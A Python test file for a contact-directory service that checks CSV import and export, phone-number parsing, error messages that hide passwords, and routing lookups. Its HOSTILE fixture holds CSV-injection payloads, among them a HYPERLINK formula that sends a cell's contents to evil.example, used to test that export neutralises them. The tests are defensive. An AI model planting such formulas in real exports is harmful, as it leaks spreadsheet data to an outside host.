"""The contact directory from the outside: CSV in and out, the contacts commands, live imports
and rules that use it, with the decision service in process and the facade as a process."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
import sqlite3
import time
from pathlib import Path

import grpc
import pytest

from contract.client import BlockingDecisionClient
from decision.directory import ContactRecord, open_directory
from decision.directory.csv_format import ContactsCsvError, read_contacts, write_contacts
from decision.engine import Contact
from tests.conftest import EXAMPLE_RULES, Webhook, contacts_cli, start_facade
from tests.in_process import InProcessDecision

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
ADA = "+447400654321"


def look_up(path: Path, e164: str) -> Contact | None:
    async def lookup() -> Contact | None:
        async with await open_directory(str(path)) as directory:
            return await directory.lookup(e164)

    return asyncio.run(lookup())


def test_import_export_round_trip(tmp_path):
    first, second = tmp_path / "a.sqlite3", tmp_path / "b.sqlite3"
    imported = contacts_cli("import", "--contacts", str(first), str(EXAMPLES / "contacts.csv"))
    assert imported.returncode == 0, imported.stderr
    assert "upserted 2 contacts (3 numbers)" in imported.stdout
    exported = contacts_cli("export", "--contacts", str(first)).stdout
    (tmp_path / "export.csv").write_text(exported)
    assert (
        contacts_cli("import", "--contacts", str(second), str(tmp_path / "export.csv")).returncode
        == 0
    )
    assert contacts_cli("export", "--contacts", str(second)).stdout == exported
    assert exported.splitlines()[0] == (
        "number,country,name,tier,language,preferred_agents,skills,contact_id,account"
    )
    assert f"{ADA},GB,Ada Lovelace,vip,english,alice,premium,acme-ada,ACME-001" in exported


# What a spreadsheet would run (OWASP "CSV injection"), and what only an apostrophe keeps from
# looking like it: every value must come back from export -> import as it was.
HOSTILE = Contact(
    name='=HYPERLINK("http://evil.example/?"&A1,"Ada")',
    tier="@SUM(1+1)",
    language="+1+1",
    preferred_agents=("-2+3", "alice"),
    skills=("\t=1",),
    attributes={"=cmd": "-2+3", "note": "'=already guarded", "plain": "'Tis", "mobile": "+447400"},
)


def test_export_neutralises_cells_a_spreadsheet_would_run():
    """Export wrote `=HYPERLINK(...)`, `@SUM(...)`, `+1+1`, `-2+3` and a header `=cmd` as they
    were: opened in a spreadsheet, each is a formula. A leading `'` makes each text; a phone
    number (`+` and digits) is left as it is: it is a number to a spreadsheet, nothing runs."""
    written = io.StringIO()
    write_contacts([ContactRecord("ada", ("+447400654321",), HOSTILE)], written)
    rows = list(csv.reader(io.StringIO(written.getvalue())))
    cells = [cell for row in rows for cell in row]
    assert "'=cmd" in rows[0]
    assert rows[1][0] == "+447400654321"
    assert [c for c in cells[len(rows[0]) + 1 :] if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == [
        "+447400"
    ]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Ada")' in cells
    assert "''=already guarded" in cells  # so import can tell its own guard from the value
    assert "'Tis" in cells  # not a formula, not touched


def test_what_export_guards_imports_back_as_it_was(tmp_path):
    db = tmp_path / "contacts.sqlite3"
    written = io.StringIO()
    write_contacts([ContactRecord("ada", ("+447400654321",), HOSTILE)], written)
    (read,) = read_contacts(io.StringIO(written.getvalue()), "export.csv")
    assert read.contact == dataclasses.replace(HOSTILE, skills=("=1",))  # cells are trimmed
    exported = tmp_path / "export.csv"
    exported.write_text(written.getvalue())
    assert contacts_cli("import", "--contacts", str(db), str(exported)).returncode == 0
    again = contacts_cli("export", "--contacts", str(db)).stdout
    assert again.replace("'\t=1", "'=1") == written.getvalue().replace("'\t=1", "'=1")


def test_a_cell_guarded_by_hand_imports_without_its_guard():
    """A CRM export that guards its formulas the same way means the text after the `'`."""
    text = "number,country,name,'=cmd\n'+447400111111,,'=SUM(1),'@x\n"
    (read,) = read_contacts(io.StringIO(text), "crm.csv")
    assert read.numbers == ("+447400111111",)
    assert read.contact.name == "=SUM(1)"
    assert read.contact.attributes == {"=cmd": "@x"}


def test_one_contact_several_numbers_and_national_or_international():
    text = (
        "number,country,name,tier,language,preferred_agents,skills,contact_id\n"
        "07400 111111,,Bob,gold,,alice;bob,premium,c-1\n"
        "+44 7400 111112,,,,,,,c-1\n"
        "0044 7400 111113,,Carol,,,,,\n"
        "(202) 555-0123,+1,Dan,,,,,\n"
    )
    records = read_contacts(io.StringIO(text), "in.csv", default_region="GB")
    assert records == [
        ContactRecord(
            "c-1",
            ("+447400111111", "+447400111112"),
            Contact(
                name="Bob",
                tier="gold",
                preferred_agents=("alice", "bob"),
                skills=("premium",),
                attributes={},
            ),
        ),
        ContactRecord("+447400111113", ("+447400111113",), Contact(name="Carol", attributes={})),
        ContactRecord("+12025550123", ("+12025550123",), Contact(name="Dan", attributes={})),
    ]


def test_bad_rows_are_reported_by_line_and_nothing_is_written(tmp_path):
    db = tmp_path / "contacts.sqlite3"
    assert (
        contacts_cli("import", "--contacts", str(db), str(EXAMPLES / "contacts.csv")).returncode
        == 0
    )
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "number,country,name\n+447400222222,,Ok\nnot a number,GB,Bad\n"
        "07400 222223,,No country\n+447400222224,Narnia,Bad country\n"
    )
    result = contacts_cli("import", "--contacts", str(db), "--replace", str(bad))
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"{bad}:3: number 'not a number' cannot be parsed",
        f"{bad}:4: number '07400 222223' no country column or default region",
        f"{bad}:5: country 'Narnia' is neither a region nor a calling code",
    ]
    assert look_up(db, ADA).name == "Ada Lovelace"  # the old directory is intact
    assert look_up(db, "+447400222222") is None


def test_replace_with_no_contacts_empties_the_directory_only_when_asked(tmp_path):
    """A failed upstream export leaves a header alone: replacing with it would forget every
    contact on every replica at once."""
    db = tmp_path / "contacts.sqlite3"
    assert (
        contacts_cli("import", "--contacts", str(db), str(EXAMPLES / "contacts.csv")).returncode
        == 0
    )
    header_only = tmp_path / "empty.csv"
    header_only.write_text("number,country,name\n")
    refused = contacts_cli("import", "--contacts", str(db), "--replace", str(header_only))
    assert refused.returncode == 1
    assert refused.stderr == (
        f"{header_only}: no contacts; --replace would empty the directory "
        "(add --allow-empty if that is what you mean)\n"
    )
    assert look_up(db, ADA).name == "Ada Lovelace"
    meant = contacts_cli(
        "import", "--contacts", str(db), "--replace", "--allow-empty", str(header_only)
    )
    assert meant.returncode == 0, meant.stderr
    assert look_up(db, ADA) is None


def test_cli_errors_for_directories_it_cannot_open_are_one_line(tmp_path):
    path = tmp_path / "c.sqlite3"
    assert (
        contacts_cli("import", "--contacts", str(path), str(EXAMPLES / "contacts.csv")).returncode
        == 0
    )
    with sqlite3.connect(path) as db:
        db.execute("UPDATE schema_version SET version = 99")
    newer = contacts_cli("export", "--contacts", str(path))
    assert newer.returncode == 1
    assert "schema version 99 is newer" in newer.stderr
    url = "postgresql://router:s3cret@127.0.0.1:1/contacts"  # nothing listens on port 1
    postgres = contacts_cli(
        "import", str(EXAMPLES / "contacts.csv"), env={"DECISION_CONTACTS": url}
    )
    assert postgres.returncode == 1
    assert postgres.stderr.count("\n") == 1
    assert postgres.stderr.startswith("postgresql://router@127.0.0.1:1/contacts: ")
    assert "s3cret" not in postgres.stderr


@pytest.mark.parametrize("password", ["S3c/retPW", "S3c#retPW", "S3c?retPW", "S3c@retPW"])
def test_no_password_is_ever_printed_whatever_it_holds(password):
    url = f"postgresql://router:{password}@127.0.0.1:1/contacts?application_name=x"
    for command in (("export",), ("import", "x.csv")):
        result = contacts_cli(*command, env={"DECISION_CONTACTS": url})
        assert result.returncode != 0
        assert result.stderr.count("\n") == 1
        for piece in ("S3c", "retPW"):
            assert piece not in result.stderr, result.stderr


@pytest.fixture
def stack_with_directory(tmp_path, services):
    """The decision service in process with the demo directory, the facade as a process."""
    db = tmp_path / "contacts.sqlite3"
    assert (
        contacts_cli("import", "--contacts", str(db), str(EXAMPLES / "contacts.csv")).returncode
        == 0
    )
    with InProcessDecision(services, EXAMPLE_RULES, contacts=str(db)) as decision:
        facade = start_facade(f"127.0.0.1:{decision.port}", 2000)
        yield decision, Webhook(facade.port), db
        facade.stop()


def test_rules_route_a_known_vip_through_the_facade(stack_with_directory):
    _, webhook, db = stack_with_directory
    body = webhook.post({"phoneNumber": "07400 654321", "countryCode": "+44"}).body
    assert body["callbackUserName"] == "Ada Lovelace"
    assert body["routingData"]["priority"] == 10
    assert body["routingData"]["preferredAgentIds"] == ["7c0e5b3a-1111-4222-8333-000000000001"]
    stranger = webhook.post({"phoneNumber": "07400 999999", "countryCode": "+44"}).body
    assert "callbackUserName" not in stranger

    new = db.parent / "new.csv"
    new.write_text("number,country,name,tier\n07400 999999,GB,Late Arrival,vip\n")
    assert contacts_cli("import", "--contacts", str(db), str(new)).returncode == 0
    # No restart: the service notices the other process's commit and drops its cache.
    deadline = time.monotonic() + 30
    while "callbackUserName" not in stranger and time.monotonic() < deadline:
        stranger = webhook.post({"phoneNumber": "07400 999999", "countryCode": "+44"}).body
    assert stranger["callbackUserName"] == "Late Arrival"


def test_lookup_contact_over_grpc(stack_with_directory):
    decision, _, _ = stack_with_directory
    with BlockingDecisionClient(f"127.0.0.1:{decision.port}", timeout=5) as client:
        found = client.lookup_contact("7400 654322", "44")
        assert found.found
        assert found.e164 == "+447400654322"
        assert found.contact.name == "Ada Lovelace"
        assert dict(found.contact.attributes) == {"account": "ACME-001"}
        missing = client.lookup_contact("+15550000000")
        assert not missing.found


def test_lookup_contact_without_a_directory(services):
    with (
        InProcessDecision(services, EXAMPLE_RULES) as decision,
        BlockingDecisionClient(f"127.0.0.1:{decision.port}", timeout=5) as client,
        pytest.raises(grpc.RpcError) as caught,
    ):
        client.lookup_contact("+447400654321")
    assert caught.value.code() == grpc.StatusCode.FAILED_PRECONDITION


def test_csv_writer_reads_back():
    records = [
        ContactRecord(
            "k",
            ("+447400000001", "+447400000002"),
            Contact(name="A, B", tier="t", skills=("x", "y"), attributes={"note": 'say "hi"'}),
        )
    ]
    buffer = io.StringIO()
    write_contacts(records, buffer)
    assert read_contacts(io.StringIO(buffer.getvalue()), "x.csv") == records
    with pytest.raises(ContactsCsvError):
        read_contacts(io.StringIO("name\nx\n"), "x.csv")
